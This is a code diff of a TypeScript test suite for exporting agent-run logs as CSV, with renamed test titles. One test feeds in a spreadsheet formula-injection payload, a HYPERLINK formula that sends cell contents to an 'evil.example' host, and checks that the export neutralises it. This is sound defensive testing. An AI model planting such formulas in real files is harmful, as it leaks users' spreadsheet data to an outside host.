@@ -4,7 +4,6 @@ import { json } from '#server/db/database.ts'
 import { engines } from '#tests/engines.ts'
 import { type Actor, type TestApp, testApp } from '#tests/test-app.ts'
 
-/** Reads RFC 4180 as a spreadsheet does. */
 function readCsv(text: string): string[][] {
   const rows: string[][] = []
   const pattern = /("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/gy
@@ -20,7 +19,7 @@ function readCsv(text: string): string[][] {
   throw new Error('this is no CSV')
 }
 
-describe.each(engines)('the logs as a file, on %s', (engine) => {
+describe.each(engines)('exporting logs on %s', (engine) => {
   let app: TestApp
   let ada: Actor
   beforeAll(async () => {
@@ -39,7 +38,7 @@ describe.each(engines)('the logs as a file, on %s', (engine) => {
   }
   const ask = (input: string) => ada.call(agents.run, { body: { agentId: 'lamp', input } })
 
-  it('before anything ran it holds the names of its columns', async () => {
+  it('exports only column names before the first run', async () => {
     const { response, records, text } = await download()
     expect(response.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/)
     expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="keeper-logs-[\d-]+\.csv"$/)
@@ -48,7 +47,7 @@ describe.each(engines)('the logs as a file, on %s', (engine) => {
     expect(text).toMatch(/^run_id,created_at,agent,.*,input,output,error\r\n$/)
   })
 
-  it('holds what the list shows, and no text that a spreadsheet would carry out', async () => {
+  it('exports the list without text that spreadsheets would execute', async () => {
     const hostile = '=HYPERLINK("https://evil.example/?q="&A1,"see")'
     for (const input of [hostile, 'two\nlines, and "quotes"', '-2+3']) {
       app.passTime(1000)
@@ -70,12 +69,12 @@ describe.each(engines)('the logs as a file, on %s', (engine) => {
     expect(text.replaceAll('\r\n', '')).not.toMatch(/(?:^|,)"?[=+@-]/)
   })
 
-  it('follows the filters of the list', async () => {
+  it('applies the filters of the list', async () => {
     expect((await download('?q=quotes')).records).toHaveLength(1)
     expect((await download('?status=error')).records).toEqual([])
   })
 
-  it('stops after 10,000 rows and says so', async () => {
+  it('stops after 10,000 rows and reports it', async () => {
     const { db } = app.services
     const row = await db.selectFrom('runs').selectAll().where('input', '=', '-2+3').executeTakeFirstOrThrow()
     const older = Array.from({ length: 10_050 }, (_, index) => ({
